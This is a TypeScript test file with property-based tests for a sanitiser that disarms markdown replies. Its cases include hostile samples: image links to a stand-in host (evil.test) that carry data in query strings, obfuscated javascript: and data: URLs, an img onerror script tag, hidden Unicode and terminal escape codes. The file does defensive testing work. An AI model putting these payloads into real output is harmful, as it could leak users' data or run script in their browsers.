import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LONGEST_ADDRESS, ReplySanitiser } from './reply-sanitiser.js';
import type { LinkPolicy } from './safe-link.js';

function sanitise(text: string, policy: LinkPolicy = 'links'): string {
  const sut = new ReplySanitiser(policy);
  return sut.push(text) + sut.finish();
}

describe('ReplySanitiser', () => {
  it.each([
    ['an image that reports what was said', '![x](https://evil.test/p.png?d=secret)', '[x] (https://evil.test/p.png)'],
    ['an image that reports in its path', `![x](https://evil.test/${'a'.repeat(130)})`, '[x] (https://evil.test/)'],
    ['an image that reports in its host', `![x](https://${'a'.repeat(45)}.evil.test/)`, '[x] (…)'],
    ['an image by reference', '![x][r]\n\n[r]: https://evil.test/?d=1', '[x][r]\n\n[r] : https://evil.test/'],
    ['a link that carries data', '[x](https://evil.test/?d=1#y)', '[x] (https://evil.test/)'],
    ['a link with a name and a password', '[x](https://bank.test@evil.test/)', '[x] (https://evil.test/)'],
    ['a link with a title', '[x](https://good.test/a "title")', '[x](https://good.test/a)'],
    ['a script', 'a [x](javascript:alert(1)) b', 'a [x] b'],
    ['a script in disguise', '[x]( java\tscript&colon;alert(1))[y](&#106;avascript:x)[z](<javascript:x>)', '[x][y][z]'],
    ['a script behind a line end', '[x](\njavascript:alert(1))', '[x]'],
    ['a data address', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x]'],
    ['an address without a scheme', '![x](//evil.test/a?d=1)', '[x] (//evil.test/a?d=1)'],
    ['markup', '<img src=x onerror=alert(1)></p><!-- c --><?x', '＜img src=x onerror=alert(1)>＜/p>＜!-- c -->＜?x'],
    ['a bare address with data', 'see https://evil.test/a?d=1, ok', 'see https://evil.test/a, ok'],
    [
      'an image whose mark an address hid',
      'www.e.test/p!?d=1[x](https://e.test/p)',
      'https://www.e.test/p! [x](https://e.test/p)',
    ],
    ['a question mark spelt as a reference', 'https://evil.test/a&#x3f;d=1', 'https://evil.test/a&'],
    ['an address without a host', 'https://a.test(@)', '…'],
    ['a definition in a quotation', '> [r]: javascript:x', '> [r] : javascript:x'],
    ['hidden text', 'a\u200bb\u202ec\u{e0041}\u{e0042}d\u{e0101}e\ufe01', 'abcde'],
    ['commands to a terminal', 'a\u001b[31mred\u001b]0;title\u0007b\u009bc\u0000d', 'aredbcd'],
    ['a command in a link', '[x](java\u001b[0mscript:alert(1))', '[x]'],
  ])('disarms %s', (_, text, expected) => {
    expect(sanitise(text)).toBe(expected);
  });

  it.each([
    'Plain prose, with 1 < 2 and a <3 for you! Wow![sic] no. (really) [1]',
    'A [link](https://example.com/a/b_(c)#part) and https://example.com/x. Mail [me](mailto:ana@example.com)!',
    '**bold** _it_ `code [x]` \n- list\n\n> quote\n\n[Ana] hello: x',
    'emoji 👩‍👩‍👧 ❤️ 1️⃣, می‌خواهم, www.example.com, "http" and https alone',
  ])('passes %j', (text) => {
    const kept = text.replace('Wow![', 'Wow[');
    expect(sanitise(text)).toBe(kept);
  });

  it('names hosts only where no link is wanted', () => {
    expect(sanitise('[x](https://a.test/b) https://c.test/d', 'strict')).toBe('[x] (a.test) c.test');
  });

  it('lets an address that never ends go as text, without what it could carry', () => {
    const long = `https://evil.test/${'a'.repeat(2_000)}`;
    expect(sanitise(`![x](${long}`)).toMatch(/^\[x\] \(https:\/\/evil\.test\/ a/);
  });

  const hostile = fc
    .array(
      fc.constantFrom(
        '!',
        '[',
        ']',
        '(',
        ')',
        '<',
        '>',
        'a',
        'script',
        ' ',
        '\n',
        ':',
        'https://e.test',
        '/p',
        '?d=1',
        '#f',
        // oxlint-disable-next-line no-script-url -- what has to be disarmed
        'javascript:',
        'data:',
        'www.e.test',
        '\u001b[',
        '\u200b',
        'm',
        '"',
        '\\',
        '@',
        '\u{e0041}',
        '👩‍👧',
        'h',
        'ttp',
        '&#x6a;',
      ),
      { maxLength: 24 },
    )
    .map((parts) => parts.join(''));

  it('does the same however the text is cut', () => {
    fc.assert(
      fc.property(
        hostile,
        fc.constantFrom<LinkPolicy>('links', 'strict'),
        fc.infiniteStream(fc.integer({ min: 1, max: 5 })),
        (text, policy, sizes) => {
          const sut = new ReplySanitiser(policy);
          let out = '';
          for (let at = 0; at < text.length;) {
            const size = sizes.next().value as number;
            out += sut.push(text.slice(at, at + size));
            at += size;
          }
          expect(out + sut.finish()).toBe(sanitise(text, policy));
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it('leaves nothing that loads, runs or carries data', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const out = sanitise(text);
        expect(out).not.toMatch(/!\[|<[a-z/!?]/i);
        for (const unseen of ['\u001b', '\u200b', '\udb40']) expect(out).not.toContain(unseen);
        expect(out).not.toMatch(/\]\((?!https?:\/\/|mailto:)/i);
        // As GitHub's renderer finds addresses: up to a blank or a bracket.
        expect(out).not.toMatch(/(?<![\p{L}\p{N}])https?:\/\/[^\s<#]*\?\w/iu);
      }),
      { numRuns: 2_000 },
    );
  });

  it('has nothing left to do the second time', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(sanitise(sanitise(text))).toBe(sanitise(text));
      }),
      { numRuns: 1_000 },
    );
  });

  it('never waits for more than an address', () => {
    const sut = new ReplySanitiser('links');
    for (let sent = 0; sent < 4; sent++) sut.push(`![x](https://evil.test/${'a'.repeat(400)}`);
    expect(sut.waiting).toBeLessThanOrEqual(LONGEST_ADDRESS);
  });
});
